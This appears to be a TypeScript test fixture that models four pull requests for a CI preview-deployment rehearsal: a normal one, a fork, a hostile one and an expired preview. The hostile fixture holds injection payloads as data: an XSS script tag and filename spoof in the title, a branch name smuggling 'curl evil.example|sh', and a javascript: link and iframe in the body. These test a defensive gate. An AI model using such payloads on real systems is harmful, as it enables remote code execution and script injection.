// Four pull requests as a rehearsal leaves them: a usual one, one from a fork, a hostile one, and one that was forgotten.
import type { EntryOf, PullRequestStory, RunJob } from '../../../../src/rehearsal/report/data.ts';
import { destroyed, forkPlan, planned, planning, previewIsLive, refused, updated } from './comments.ts';

export const beginMs = Date.UTC(2026, 2, 2, 9, 13, 55);
const at = (seconds: number): number => beginMs + seconds * 1000;

const bot = { author: 'opsdeck[bot]', isBot: true } as const;
const web = 'http://127.0.0.1:41233/octo-school/assessment';

const synth: RunJob = {
  name: 'synth',
  conclusion: 'success',
  seconds: 4.6,
  startSeconds: 0.2,
  steps: [
    { name: 'Check out', conclusion: 'success', seconds: 0.3, standIn: 'git clone of the local repository' },
    { name: 'Set up Node', conclusion: 'success', seconds: 0, standIn: 'the Node that runs the rehearsal' },
    { name: 'Synthesize', conclusion: 'success', seconds: 4.1 },
    { name: 'Hand on the Terraform JSON', conclusion: 'success', seconds: 0.2, standIn: 'a folder of the run' },
  ],
};

const plan: RunJob = {
  name: 'plan',
  conclusion: 'success',
  seconds: 9.8,
  startSeconds: 4.9,
  steps: [
    { name: 'Gate', conclusion: 'success', seconds: 0.2 },
    { name: 'Credentials', conclusion: 'success', seconds: 0.1, standIn: 'OIDC claims checked, role of the emulator' },
    { name: 'Plan', conclusion: 'success', seconds: 9.5 },
  ],
};

const preview: RunJob = {
  name: 'preview',
  conclusion: 'success',
  seconds: 21.4,
  startSeconds: 14.8,
  steps: [
    { name: 'Credentials', conclusion: 'success', seconds: 0.1, standIn: 'OIDC claims checked, role of the emulator' },
    { name: 'Deploy', conclusion: 'success', seconds: 21.2 },
    { name: 'Post Deploy', conclusion: 'success', seconds: 0.1 },
  ],
};

function run(atSeconds: number, jobs: readonly RunJob[], event = 'pull_request (synchronize)'): EntryOf<'run'> {
  const seconds = Math.max(...jobs.map((job) => (job.startSeconds ?? 0) + job.seconds)) + 0.3;
  return { kind: 'run', atMs: at(atSeconds), workflow: 'pull-request', event, conclusion: 'success', seconds, jobs };
}

const skippedDestroy: RunJob = { name: 'destroy', conclusion: 'skipped', seconds: 0, steps: [] };

const usual: PullRequestStory = {
  number: 7,
  title: 'Give the grader 1 vCPU & a p95 alarm',
  author: 'amara-okafor',
  isFork: false,
  headRef: 'feature/grader-capacity',
  finalState: 'merged',
  about: 'The whole life of a preview: plan, deploy, a second push, merge, and nothing left behind.',
  entries: [
    { kind: 'opened', atMs: at(5), body: 'Exams begin on Monday: **more CPU** for grading.\nSee #3 for the load test.' },
    { kind: 'labeled', atMs: at(5.1), label: 'preview' },
    run(5.4, [synth, plan, preview, skippedDestroy], 'pull_request (opened)'),
    {
      kind: 'comment',
      atMs: at(6),
      ...bot,
      url: `${web}/pull/7#issuecomment-1`,
      versions: [
        { atMs: at(6), markdown: planning },
        { atMs: at(20), markdown: planned },
        { atMs: at(41.5), markdown: previewIsLive },
        { atMs: at(93), markdown: updated },
        { atMs: at(128), markdown: destroyed },
      ],
    },
    {
      kind: 'check',
      atMs: at(20.2),
      name: 'opsdeck / plan',
      conclusion: 'action_required',
      title: '1 resource that holds data is replaced',
      summary: 'Digest `ab12cd34ef56`. Approve the environment **production** to apply exactly this plan.',
      sha: '9f2c1e7aa01b',
    },
    { kind: 'summary', atMs: at(20.3), job: 'plan', markdown: planned },
    { kind: 'deployment', atMs: at(20.6), environment: 'preview/pr-7', state: 'in_progress' },
    {
      kind: 'deployment',
      atMs: at(41.4),
      environment: 'preview/pr-7',
      state: 'success',
      url: 'https://pr-7.preview.assessment.example',
      description: 'live in 20.8 s',
    },
    { kind: 'pushed', atMs: at(62), sha: '41d09ab77c21', message: 'Three quarters of a vCPU will do' },
    run(62.3, [synth, plan, { ...preview, seconds: 12.1 }, skippedDestroy]),
    {
      kind: 'comment',
      atMs: at(97),
      author: 'jonas-brandt',
      isBot: false,
      url: `${web}/pull/7#issuecomment-2`,
      versions: [{ atMs: at(97), markdown: '/preview extend 24h' }],
      reactions: ['eyes', 'rocket', '+1'],
    },
    { kind: 'closed', atMs: at(117), merged: true, by: 'jonas-brandt' },
    run(117.2, [{ ...preview, name: 'destroy', seconds: 10.4, startSeconds: 0.3, steps: [] }], 'pull_request (closed)'),
    { kind: 'deployment', atMs: at(127.8), environment: 'preview/pr-7', state: 'inactive' },
  ],
};

const fork: PullRequestStory = {
  number: 8,
  title: 'Fix a typo in the alarm description',
  author: 'kind-stranger',
  isFork: true,
  headRef: 'kind-stranger:patch-1',
  finalState: 'open',
  about: 'A pull request from a fork gets a plan without secrets, and no preview until a maintainer asks for one.',
  entries: [
    { kind: 'opened', atMs: at(131) },
    run(131.2, [synth, plan, { ...preview, conclusion: 'skipped' }], 'pull_request (opened)'),
    {
      kind: 'comment',
      atMs: at(146),
      ...bot,
      url: `${web}/pull/8#issuecomment-3`,
      versions: [{ atMs: at(146), markdown: forkPlan }],
    },
  ],
};

const hostile: PullRequestStory = {
  number: 9,
  title: '"><script>alert(document.domain)</script> \u202Egnp.exe',
  author: 'mallory',
  isFork: true,
  headRef: "mallory:$(curl${IFS}evil.example|sh)'-->",
  finalState: 'closed',
  about: 'A pull request that wants to run commands with our credentials: the gate refuses it before anything is planned.',
  entries: [
    { kind: 'opened', atMs: at(150), body: '[click](javascript:alert(1)) <iframe src=https://evil.example></iframe> hello' },
    {
      ...run(150.2, [
        synth,
        { ...plan, conclusion: 'failure', seconds: 0.4, steps: [{ name: 'Gate', conclusion: 'failure', seconds: 0.3 }] },
      ]),
      conclusion: 'failure',
    },
    {
      kind: 'check',
      atMs: at(156),
      name: 'opsdeck / gate',
      conclusion: 'failure',
      title: '2 constructs refused',
      summary: refused,
      sha: 'bad0bad0bad0',
    },
    {
      kind: 'comment',
      atMs: at(156.1),
      ...bot,
      url: `${web}/pull/9#issuecomment-4`,
      versions: [{ atMs: at(156.1), markdown: refused }],
    },
    { kind: 'closed', atMs: at(158), merged: false, by: 'jonas-brandt' },
  ],
};

const forgotten: PullRequestStory = {
  number: 5,
  title: 'Try a larger event stream',
  author: 'li-wei',
  isFork: false,
  headRef: 'experiment/stream',
  finalState: 'open',
  about: 'A preview that nobody looked at for three days: the reaper destroys it and says so.',
  entries: [
    { kind: 'opened', atMs: at(160) },
    { kind: 'note', atMs: at(161), text: 'The clock of the rehearsal was set forward by 73 hours.' },
    run(161.2, [{ ...preview, name: 'reap', seconds: 12, startSeconds: 0.2 }], 'schedule'),
    { kind: 'deployment', atMs: at(173), environment: 'preview/pr-5', state: 'failure', description: 'expired' },
    { kind: 'deployment', atMs: at(173.5), environment: 'preview/pr-5', state: 'inactive' },
    {
      kind: 'note',
      atMs: at(174),
      text: 'Reaped: preview/pr-5 had expired; 31 resources destroyed, no lease, lock or state is left.',
    },
  ],
};

export const pullRequests: readonly PullRequestStory[] = [usual, fork, hostile, forgotten];
